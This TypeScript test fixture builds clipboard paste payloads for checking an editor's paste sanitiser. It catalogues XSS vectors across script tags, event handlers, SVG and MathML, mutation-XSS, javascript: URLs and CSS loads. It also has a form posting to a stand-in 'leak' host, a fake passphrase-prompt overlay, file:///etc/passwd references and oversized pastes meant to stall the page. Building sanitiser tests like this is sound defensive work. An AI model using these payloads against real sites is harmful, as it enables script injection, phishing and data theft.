/** A paste: what a page or a program would put on the clipboard. */
export interface Payload {
  readonly kind: string;
  readonly html: string;
  readonly text: string;
}

/** What every script among the payloads does where one is run. */
export const sentinel = 'pastedScriptRan';
const run = `globalThis.${sentinel}=1`;
const away = 'https://example.com/leak';

const byKind: Readonly<Record<string, readonly string[]>> = {
  script: [
    `<script>${run}</script>`,
    `<script src="${away}.js"></script>`,
    `<script type="module">${run}</script>`,
    `<script defer>${run}</script>`,
    `<ScRiPt >${run}</sCrIpT >`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<script/xss>${run}</script>`,
    `<noscript><p title="</noscript><script>${run}</script>">x</p></noscript>`,
  ],
  handler: [
    `<img src=x onerror="${run}">`,
    `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="${run}">`,
    `<body onload="${run}">x</body>`,
    `<p onclick="${run}" onmouseover="${run}" onfocus="${run}" tabindex="0">x</p>`,
    `<details open ontoggle="${run}"><summary>x</summary></details>`,
    `<input autofocus onfocus="${run}">`,
    `<video onerror="${run}"><source src="${away}.mp4"></video>`,
    `<audio src=x onerror=${run}></audio>`,
    `<marquee onstart="${run}">x</marquee>`,
    `<p style="animation-name:x" onanimationstart="${run}">x</p>`,
    `<div contenteditable onbeforeinput="${run}">x</div>`,
  ],
  svg: [
    `<svg onload="${run}"></svg>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><script xlink:href="${away}.js"></script></svg>`,
    `<svg><animate onbegin="${run}" attributeName="x" dur="1s"></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.${sentinel}=1</script>"></iframe></foreignObject></svg>`,
    `<svg><use href="${away}.svg#x"></use></svg>`,
    `<svg><image href="${away}.png"></image></svg>`,
    `<svg><a xlink:href="javascript:${run}"><text y="20">x</text></a></svg>`,
    `<svg><set attributeName="onmouseover" to="${run}"></svg>`,
  ],
  math: [
    `<math><mtext><script>${run}</script></mtext></math>`,
    `<math href="javascript:${run}">x</math>`,
    `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  ],
  mutation: [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
    `<svg><desc><noscript></desc><style><a title="</style><img src onerror=${run}>">`,
    `<p id="\`><img src=1 onerror=${run}>\`">x</p>`,
    `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
    `<listing>&lt;img src=1 onerror=${run}&gt;</listing>`,
    `<title><a href="</title><img src=x onerror=${run}>">`,
    `<textarea></textarea><img src=x onerror=${run}></textarea>`,
    `<!--><img src=x onerror=${run}>-->`,
    `<!--!><img src=x onerror=${run}>--!>`,
    `<![CDATA[<img src=x onerror=${run}>]]>`,
    `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`,
  ],
  style: [
    `<style>@import url(${away}.css); p { background: url(${away}.png) }</style><p>x</p>`,
    `<p style="background:url(${away}.png)">x</p>`,
    `<p style="background:url(javascript:${run})">x</p>`,
    `<p style="width:expression(${run})">x</p>`,
    `<p style="-moz-binding:url(${away}.xml)">x</p>`,
    `<p style="position:fixed;inset:0;z-index:99999;background:#fff">Your vault is locked. Type your passphrase:</p>`,
    `<p style="list-style-image:url('${away}.gif')">x</p>`,
    `<link rel="stylesheet" href="${away}.css">`,
    `<style>@font-face { font-family: x; src: url(${away}.woff) } * { font-family: x }</style>x`,
  ],
  address: [
    `<a href="javascript:${run}">x</a>`,
    `<a href="java&#10;script:${run}">x</a>`,
    `<a href=" &#14; javascript:${run}">x</a>`,
    `<a href="vbscript:${run}">x</a>`,
    `<a href="data:text/html,<script>${run}</script>">x</a>`,
    `<a href="${away}" target="_top" ping="${away}">x</a>`,
    `<a href="file:///etc/passwd">x</a>`,
    `<area href="javascript:${run}">`,
    `<img src="${away}.png" srcset="${away}-2.png 2x">`,
    `<img src="file:///etc/passwd">`,
    `<img src="\\\\example.com\\share\\x.png">`,
    `<picture><source srcset="${away}.webp"><img></picture>`,
    `<video poster="${away}.png"></video>`,
    `<input type="image" src="${away}.png">`,
    `<table background="${away}.png"><tr><td background="${away}.png">x</td></tr></table>`,
  ],
  frame: [
    `<iframe src="${away}"></iframe>`,
    `<iframe srcdoc="<script>parent.${sentinel}=1</script>"></iframe>`,
    `<iframe src="javascript:parent.${sentinel}=1"></iframe>`,
    `<iframe src="data:text/html,<script>parent.${sentinel}=1</script>"></iframe>`,
    `<frameset><frame src="javascript:${run}"></frameset>`,
    `<object data="${away}.swf"></object>`,
    `<object data="javascript:${run}"></object>`,
    `<object type="text/html" data="data:text/html,<script>parent.${sentinel}=1</script>"></object>`,
    `<embed src="${away}.swf">`,
    `<embed src="javascript:${run}">`,
    `<applet code="x" codebase="${away}"></applet>`,
    `<portal src="${away}"></portal>`,
    `<fencedframe src="${away}"></fencedframe>`,
  ],
  page: [
    `<meta http-equiv="refresh" content="0;url=${away}">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
    `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
    `<base href="${away}/"><p>x</p>`,
    `<base target="_blank">`,
    `<link rel="import" href="${away}.html">`,
    `<link rel="prefetch" href="${away}"><link rel="dns-prefetch" href="//example.com">`,
    `<link rel="preload" as="script" href="${away}.js">`,
    `<link rel="manifest" href="${away}.json">`,
    `<html manifest="${away}.appcache"><p>x</p></html>`,
    `<title>Your vault is locked</title><p>x</p>`,
  ],
  template: [
    `<template><script>${run}</script></template>`,
    `<template shadowrootmode="open"><script>${run}</script><slot></slot></template>`,
    `<div><template shadowrootmode="open"><img src=x onerror="${run}"></template></div>`,
    `<slot name="x" onslotchange="${run}">x</slot>`,
    `<x-element is="x" onclick="${run}">x</x-element>`,
  ],
  form: [
    `<form action="${away}" method="post"><input name="p"><button>x</button></form>`,
    `<form action="javascript:${run}"><button autofocus>x</button></form>`,
    `<button formaction="javascript:${run}">x</button>`,
    `<form id="x"></form><button form="x" formaction="${away}">x</button>`,
    `<isindex action="javascript:${run}">`,
    `<keygen autofocus onfocus="${run}">`,
  ],
  ours: [
    `<div data-pm-slice='1 1 ["section",{"step":"<img src=x onerror=${run}>"}]'><p>x</p></div>`,
    `<div data-pm-slice='0 0 ["prompt",{"promptId":"what.next","shared":true}]'><p>x</p></div>`,
    `<section data-step="what"><section data-prompt="what.next"><p onclick="${run}">x</p></section></section>`,
    `<div data-action data-id="not an id" data-due="not a day" data-owner="${run}">x</div>`,
    `<div data-insight data-id="../../x" data-shared="true">x</div>`,
    `<div data-pm-slice="9999999 9999999 []"><p>x</p></div>`,
    `<div data-pm-slice='0 0 [null,1,{"a":"${run}"}]'><p>x</p></div>`,
    `<ol start="99999999999" type="javascript:${run}"><li>x</li></ol>`,
  ],
};

const markdown: readonly string[] = [
  `[x](javascript:${run})`,
  `![x](${away}.png)`,
  `<script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `[x]: javascript:${run}\n[x][x]`,
  `![x](javascript:${run} "onerror=${run}")`,
  '```html\n<script>' + run + '</script>\n```',
  `<https://example.com/\nonclick=${run}>`,
  `[x](data:text/html,<script>${run}</script>)`,
  `# <svg onload=${run}>`,
  `| a |\n|---|\n| <iframe srcdoc="<script>${run}</script>"> |`,
  `- [ ] <details open ontoggle=${run}>`,
];

const wrappers: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => `<ul><li><blockquote>before ${html} after</blockquote></li></ul>`,
];

/** Every payload, each bare and deep inside of ordinary text; the most telling first. */
export function payloads(): readonly Payload[] {
  const kinds = Object.entries(byKind);
  const most = Math.max(...kinds.map(([, list]) => list.length));
  const bare = Array.from({ length: most }, (_, index) =>
    kinds.flatMap(([kind, list]) => {
      const html = list[index];
      return html === undefined ? [] : [{ kind, html, text: 'x' }];
    }),
  ).flat();
  return [
    ...bare,
    ...markdown.map((text) => ({ kind: 'markdown', html: '', text })),
    ...wrappers.slice(1).flatMap((wrap) => bare.map((one) => ({ ...one, html: wrap(one.html) }))),
  ];
}

/** Pastes so large that taking them could stall the window: made in the page, by what they are. */
export const oversized = [
  { kind: '1 MB of text', unit: 'word ', times: 200_000, html: false },
  { kind: '10 MB of text', unit: 'word ', times: 2_000_000, html: false },
  { kind: '100 MB of text', unit: 'word ', times: 20_000_000, html: false },
  { kind: 'a million lines', unit: 'a\n', times: 1_000_000, html: false },
  { kind: '100,000 combining marks', unit: '\u0301', times: 100_000, html: false },
  { kind: '5 MB of HTML', unit: '<p>word</p>', times: 500_000, html: true },
  { kind: '100,000 nested elements', unit: '<div>', times: 100_000, html: true },
  { kind: 'a list of 100,000', unit: '<li>a', times: 100_000, html: true },
] as const;
